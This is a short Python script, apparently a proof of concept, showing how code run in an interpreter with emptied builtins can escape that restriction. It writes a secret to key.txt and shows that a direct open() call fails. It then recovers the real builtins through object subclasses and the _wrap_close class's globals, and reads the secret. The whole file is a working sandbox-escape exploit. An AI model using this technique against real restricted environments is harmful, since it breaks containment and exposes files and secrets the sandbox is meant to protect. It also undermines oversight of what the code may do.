import code
from pathlib import Path

Path("key.txt").write_text("moonlight-47")
prompt = code.InteractiveInterpreter({"__builtins__": {}})
prompt.write = lambda text: print(text.strip().splitlines()[-1])

prompt.runsource("open('key.txt').read()")
prompt.runsource("kinds = ().__class__.__base__.__subclasses__()")
prompt.runsource("kind = [k for k in kinds if k.__name__ == '_wrap_close'][0]")
prompt.runsource("names = kind.__init__.__globals__['__builtins__']")
prompt.runsource("names['open']('key.txt').read()")
